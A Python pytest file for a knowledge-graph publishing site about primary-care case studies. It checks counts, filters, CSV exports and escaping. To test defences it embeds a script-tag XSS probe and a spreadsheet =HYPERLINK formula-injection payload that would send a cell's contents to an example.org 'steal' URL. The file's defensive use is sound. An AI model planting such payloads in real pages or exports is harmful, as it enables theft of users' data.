"""The people's pages, rendered from the real graph without a server: what each page counts is
what the query library counts, the lists hold each case once with its reason, bad parameters
are refused by name, and text from the data is escaped."""

from __future__ import annotations

import html
import re
from collections import Counter

import pytest
from conftest import DATA

from pcmh_kg.cli import main
from pcmh_kg.model import labels
from pcmh_kg.model.vocab import DEFAULT_BASE, Minter
from pcmh_kg.publish import people, views
from pcmh_kg.query import catalogue, sparql, store

BASE = DEFAULT_BASE
M = Minter(BASE)


@pytest.fixture(scope="module")
def st(real_dist):
    return store.from_dump(real_dist / store.DUMP)


@pytest.fixture(scope="module")
def P(st):
    return people.People(BASE, lambda q: sparql.run_local(st, q))


def library(st, name: str, **params) -> list[list[str]]:
    q = catalogue.load_catalogue()[name]
    text = sparql.with_bindings(q.text, sparql.bind(q, {k: str(v) for k, v in params.items()}, M))
    return [[None if t is None else t.value for t in row] for row in sparql.run_local(st, text).rows]


def body(answer) -> str:
    status, ctype, payload, _ = answer
    assert ctype.startswith("text/html")
    return payload.decode()


def case_links(page: str) -> list[str]:
    return re.findall(r'href="/case/([a-z0-9-]+)"', page)


# ------------------------------------------------------------------------- counts agree with the library

def test_place_pages_count_cases_inside_as_the_library_does(P, st):
    for iri, node in P.site.places.items():
        expected = {row[0] for row in library(st, "cases-in-place", place=node.id)}
        assert set(P.site.cases_under(P.site.places, iri)) == expected, node.id
    london = views.place_view(P.site, M.place("london"))
    assert london["count"] == len({r[0] for r in library(st, "cases-in-place", place="london")}) > london["direct"]


def test_tag_pages_count_narrower_tags_as_the_library_does(P, st):
    for iri, node in P.site.tags.items():
        expected = {row[0] for row in library(st, "cases-with-tag", tag=node.id)}
        assert set(P.site.cases_under(P.site.tags, iri)) == expected, node.id


def test_lesson_coevidence_is_the_library_query(P, st):
    rows = library(st, "lesson-coevidence")
    expected = Counter()
    for a, b, n in rows:
        expected[(M.lesson(int(a)), M.lesson(int(b)))] = int(n)
        expected[(M.lesson(int(b)), M.lesson(int(a)))] = int(n)
    for lesson in P.site.lessons:
        assert dict(P.site.coevidence(lesson)) == {b: n for (a, b), n in expected.items() if a == lesson}


def test_home_counts_every_lesson_as_the_library_does(P, st):
    page = body(P.home())
    for _, number, _, _, n in library(st, "lessons-ranked"):
        assert re.search(rf'href="/case/\?lesson={number}" [^>]*>{n} cases?</a>', page), number
    assert "evidence map" in page.lower() and page.count('class="theme"') == 3


# ------------------------------------------------------------------------- what a commissioner reads

def test_lesson_page_lists_each_case_once_with_its_reason(P, st):
    for number in range(1, 11):
        iri = M.lesson(number)
        page = body(P.entity(iri, [], [], []))
        expected = library(st, "cases-for-lesson", lesson=number)
        main_part = page.split('<details class="raw"')[0]
        assert sorted(case_links(main_part)) == sorted(r[0][len(BASE) + 5:] for r in expected), number
        for row in expected:
            assert row[2] in html.unescape(main_part)  # the one-line reason


def test_lesson_page_headings_name_each_scope_as_a_heading_does(P):
    page = body(P.entity(M.lesson(8), [], [], []))
    headings = re.findall(r'<h2 id="scope-\d+">([^<]*?) <span class="count">', page)
    assert headings == ["London", "National", "International"]


def test_every_page_names_a_scope_the_same_way(P):
    """The home page's columns, the case list's cells and the case page say what the lesson pages' headings say."""
    columns = re.findall(r'<th scope="col" class="num">([^<]+)</th>', body(P.home()))
    assert columns == ["London", "National", "International"]
    listed = body(P.index("case", {"scope": ["national"]}))
    assert re.search(r"<td[^>]*>National</td>", listed) and not re.search(r"<td[^>]*>national</td>", listed)
    case = next(c for c in P.site.cases.values() if c.scope and c.scope.endswith("National"))
    assert "Case study · National" in html.unescape(body(P.entity(case.iri, [], [], [])))


def test_the_explorer_names_each_scope_as_the_pages_do(P, st):
    from pcmh_kg.model.vocab import PCMH, SCOPES
    from viz import data

    assert data.scope_names(st) == {key: views.scope_name(P.site, PCMH + local) for key, local in SCOPES.items()}
    assert list(data.scope_names(st).values()) == ["London", "National", "International"]
    import pyoxigraph as ox

    assert list(data.scope_names(ox.Store()).values()) == ["London", "National", "International"]  # no ontology


def test_case_page_reads_like_a_directory_entry(P, st):
    iri = M.case("lambeth-living-well-collaborative")
    case = P.site.cases[iri]
    page = body(P.entity(iri, [], [], []))
    entry = page.split('<details class="raw"')[0]
    assert f"<h1 id=\"title\">{case.title}</h1>" in html.unescape(entry)
    assert "Whom to contact" in entry and case.contact["role"] in html.unescape(entry)
    assert 'href="/place/lambeth"' in entry and 'href="/place/london"' in entry  # the places above it
    for e in case.evidence:
        assert e["reason"] in html.unescape(entry)
    for s in case.sources:
        assert f'href="{html.escape(s)}"' in entry
    assert "^^" not in entry and "xsd:" not in entry and "@en" not in entry


def test_similar_cases_count_lessons_twice_and_tags_once(P):
    site = P.site
    iri = next(c for c in site.cases if len(site.cases[c].evidence) >= 2)
    top = site.similar(iri, 5)
    mine = site.cases[iri]
    for s in top:
        other = site.cases[s["case"]]
        assert s["score"] == 2 * len(set(mine.lessons) & set(other.lessons)) + len(set(mine.tags) & set(other.tags))
    assert [s["score"] for s in top] == sorted((s["score"] for s in top), reverse=True)


# ------------------------------------------------------------------------- indexes

def test_case_index_filters_sorts_and_pages(P, st):
    page = body(P.index("case", {"place": ["london"]}))
    assert len(case_links(page)) == len({r[0] for r in library(st, "cases-in-place", place="london")})
    titles = re.findall(r'<td><a href="/case/[^"]+">([^<]+)</a>', body(P.index("case", {"sort": ["-name"]})))
    assert titles == sorted(titles, key=lambda t: html.unescape(t).casefold(), reverse=True) and len(titles) > 50
    both = body(P.index("case", {"lesson": ["3"], "scope": ["london"]}))
    expected = [r for r in library(st, "cases-for-lesson", lesson=3) if r[5] == "London"]
    assert len(case_links(both)) == len(expected) > 0


@pytest.mark.parametrize("kind,params,reason", [
    ("case", {"lesson": ["11"]}, "unknown lesson '11'"),
    ("case", {"place": ["atlantis"]}, "unknown place 'atlantis'"),
    ("case", {"scope": ["mars"]}, "unknown scope 'mars'"),
    ("case", {"sort": ["colour"]}, "cannot sort by 'colour'"),
    ("case", {"page": ["99"]}, "page must be a number from 1 to "),
    ("case", {"colour": ["red"]}, "unknown parameter 'colour'"),
    ("tag", {"lesson": ["1"]}, "takes only q="),
])
def test_index_refuses_unknown_values_by_name(P, kind, params, reason):
    status, _, payload, _ = P.index(kind, params)
    assert status == 400 and reason in html.unescape(payload.decode())


@pytest.mark.parametrize("kind", sorted(people.INDEX_TITLES))
def test_every_index_lists_every_entity_with_its_count(P, kind):
    table = {"case": P.site.cases, "lesson": P.site.lessons, "theme": P.site.themes, "tag": P.site.tags,
             "place": P.site.places, "organisation": P.site.organisations}[kind]
    listed, n = [], 1
    while True:  # every page of the index
        page = body(P.index(kind, {"page": [str(n)]}))
        for row in page.split("<tbody>")[1].split("</tbody>")[0].split("<tr>")[1:]:
            listed.append(re.search(rf'<a href="/{kind}/([^"?]+)">', row).group(1))  # the row's own entity
        if 'rel="next"' not in page:
            break
        n += 1
    assert sorted(listed) == sorted(iri[len(BASE) + len(kind) + 1:] for iri in table)
    assert f'<span class="count">{len(table)}</span>' in page


def test_search_finds_by_name_and_escapes_the_query(P):
    page = body(P.search({"q": ["lambeth"]}))
    assert 'href="/place/lambeth"' in page and 'href="/case/lambeth-living-well-collaborative"' in page
    hostile = body(P.search({"q": ['<script>alert(1)</script>']}))
    assert "<script>alert(1)" not in hostile and "&lt;script&gt;alert(1)" in hostile


# ------------------------------------------------------------------------- one label helper, the CLI

def test_one_way_of_shortening_an_iri():
    assert labels.short(BASE + "case/x", BASE) == "case/x"
    assert labels.short("http://www.opengis.net/ont/geosparql#hasGeometry") == "geosparql:hasGeometry"
    assert labels.short("http://www.w3.org/2004/02/skos/core#") == "http://www.w3.org/2004/02/skos/core#"
    assert labels.short("https://example.org/x") == "https://example.org/x"


def test_inline_queries_get_the_project_prefixes_and_one_line_errors(P, real_dist, capsys):
    args = ["query", "--dist", str(real_dist), "-q", "--format", "csv"]
    assert main(args + ["-e", "SELECT (COUNT(?s) AS ?n) WHERE { ?s a pcmh:CaseStudy }"]) == 0
    assert capsys.readouterr().out.splitlines()[1] == str(len(P.site.cases))
    assert main(args + ["-e", "PREFIX ex: <http://example.org/>\nSELECT ?s WHERE { ?s a pcmh:CaseStudy }"]) == 0
    assert main(args + ["-e", "SELECT ?s WHERE {\n  ?s a nope:Thing }"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "line 2, column" in err and "'nope:' is not declared" in err
    assert main(args + ["-e", "SELECT ?s WHERE { ?s ?p }"]) == 2
    err = capsys.readouterr().err.strip()
    assert err.count("\n") == 0 and "line 1, column 26" in err


# ------------------------------------------------------------------------- status, start and succession

def test_case_pages_show_start_year_status_and_todays_successor_of_the_contact(P, st):
    import yaml
    from conftest import DATA

    def page(case_id):
        iri = M.case(case_id)
        own, incoming = [], []
        return html.unescape(body(P.entity(iri, own, incoming, [])))

    successors = {r[0]: r[3] for r in library(st, "organisation-successors")}
    assert successors, "the data records changes of organisations"
    seen_status = seen_change = 0
    for path in sorted((DATA / "cases").glob("*.yaml")):
        record = yaml.safe_load(path.read_text(encoding="utf-8"))
        text = page(record["id"])
        if record.get("started"):
            assert f"<dt>Started</dt><dd>{str(record['started'])[:4]}" in text, record["id"]
        if record.get("status"):
            seen_status += 1
            assert f"<dt>Status</dt><dd>{record['status']['value'].capitalize()} as of {record['status']['as_of']}" in text
        org = M.organisation(record["contact"]["organisation"]) if record.get("contact", {}).get("organisation") else None
        if org in successors:
            seen_change += 1
            name = P.site.label(successors[org]) if successors[org] else "dissolved, with no successor"
            assert "its duties today" in text or "dissolved" in text, record["id"]
            assert name in text, (record["id"], name)
    assert seen_status >= 3 and seen_change >= 1


def test_organisation_pages_say_when_it_ended_and_who_carries_its_duties(P, st):
    rows = library(st, "organisation-successors")
    for org, _, ended, successor, successor_name, _ in rows:
        node = P.site.organisations[org]
        text = html.unescape(body(P.entity(org, [], [], [])))
        assert "<dt>Ended</dt>" in text and (ended or "date not recorded") in text, node.id
        assert (successor_name or "dissolved, with no successor") in text, node.id
        if successor:
            assert f'href="/organisation/{P.site.organisations[successor].id}"' in text
            later = html.unescape(body(P.entity(successor, [], [], [])))
            assert "Took over from" in later or successor in P.site.changes


def test_place_and_organisation_pages_show_each_external_identifier_with_its_source(P, st):
    rows = [(e, code, url, source) for e, code, url, source in (
        [None if t is None else t.value for t in row] for row in st.query(
            "PREFIX schema: <http://schema.org/> PREFIX prov: <http://www.w3.org/ns/prov#> "
            "SELECT ?e ?code ?url ?source WHERE { ?e schema:identifier ?id . ?id schema:value ?code ; "
            "prov:wasDerivedFrom ?source OPTIONAL { ?id schema:url ?url } }"))]
    assert len(rows) > 50
    for e, code, url, source in rows:
        text = body(P.entity(e, [], [], []))
        shown = f'<a href="{url}" rel="noopener">{code}</a>' if url else f"{code}"
        assert shown in text and f'<a href="{html.escape(source)}" rel="noopener">its source</a>' in text, (e, code)


# ----------------------------------------------------------------------- spreadsheets

def _sheet(answer) -> tuple[list[str], list[list[str]], dict]:
    import csv
    import io

    status, ctype, payload, headers = answer
    assert status == 200 and ctype == "text/csv; charset=utf-8"
    assert payload.startswith("\ufeff".encode()) and b"\r\n" in payload  # Excel reads UTF-8 with a BOM
    header, *rows = list(csv.reader(io.StringIO(payload.decode("utf-8-sig"))))
    return header, rows, headers


def test_a_filtered_case_list_downloads_as_a_spreadsheet(P, st):
    header, rows, headers = _sheet(P.index("case", {"lesson": ["3"], "scope": ["national"], "sort": ["-start"],
                                                   "format": ["csv"]}))
    assert header == ["Case study", "Place", "Scope", "Started", "Lessons", "Link", "Lesson numbers",
                      "Contact organisation", "Contact role", "Contact page"]
    want = {r[0] for r in library(st, "cases-for-lesson", lesson=3)} & \
        {c.iri for c in P.site.cases.values() if c.scope and c.scope.endswith("National")}
    assert len(rows) == len(want) > 5 and {r[5] for r in rows} == want
    assert headers["Content-Disposition"] == 'attachment; filename="case-lesson-3-scope-national.csv"'
    started = [int(r[3]) for r in rows if r[3]]
    assert started == sorted(started, reverse=True) and len(started) < len(rows)  # the page's order; none for unknown
    for r in rows:
        case = P.site.cases[r[5]]
        assert r[2] == "National" and "3" in r[6].split("; ") and int(r[4]) == len(r[6].split("; "))
        assert r[9] == case.contact["url"] and r[8] == case.contact["role"]
    page = body(P.index("case", {"lesson": ["3"], "scope": ["national"]}))
    assert 'href="/case/?lesson=3&amp;scope=national&amp;sort=name&amp;format=csv"' in page


def test_every_index_downloads_and_a_bad_request_is_refused(P):
    _, rows, _ = _sheet(P.index("case", {"format": ["csv"]}))
    assert len(rows) == len(P.site.cases) > views.PAGE_SIZE  # the whole list, not its first page
    for kind in ("lesson", "theme", "tag", "place", "organisation"):
        header, rows, _ = _sheet(P.index(kind, {"format": ["csv"]}))
        assert header[-1] == "Link" and len(rows) == len(getattr(P.site, kind + "s"))
    for params, says in (({"format": ["xlsx"]}, "format must be csv"), ({"format": ["csv"], "lesson": ["99"]},
                         "unknown lesson"), ({"format": ["csv", "csv"]}, "give format once")):
        status, _, payload, _ = P.index("case", params)
        assert status == 400 and says in payload.decode(), params


def test_a_spreadsheet_never_runs_text_from_the_data(tmp_path):
    import shutil

    import yaml

    from pcmh_kg.sinks import sheet

    assert [sheet.cell(v) for v in ("=1+1", "+44 20", "-x", "@SUM(A1)", "\tx", "plain", "-5", 2014, None)] == \
        ["'=1+1", "'+44 20", "'-x", "'@SUM(A1)", "'\tx", "plain", "-5", "2014", ""]
    data = tmp_path / "data"
    shutil.copytree(DATA, data)
    path = sorted((data / "cases").glob("*.yaml"))[0]
    case = yaml.safe_load(path.read_text(encoding="utf-8"))
    case["title"] = '=HYPERLINK("https://example.org/steal?x="&A1, "click")'
    path.write_text(yaml.safe_dump(case, sort_keys=False, allow_unicode=True), encoding="utf-8")
    hostile = store.from_data(data)
    _, rows, _ = _sheet(people.People(BASE, lambda q: sparql.run_local(hostile, q)).index("case", {"format": ["csv"]}))
    assert ["'" + case["title"]] == [r[0] for r in rows if "HYPERLINK" in r[0]]
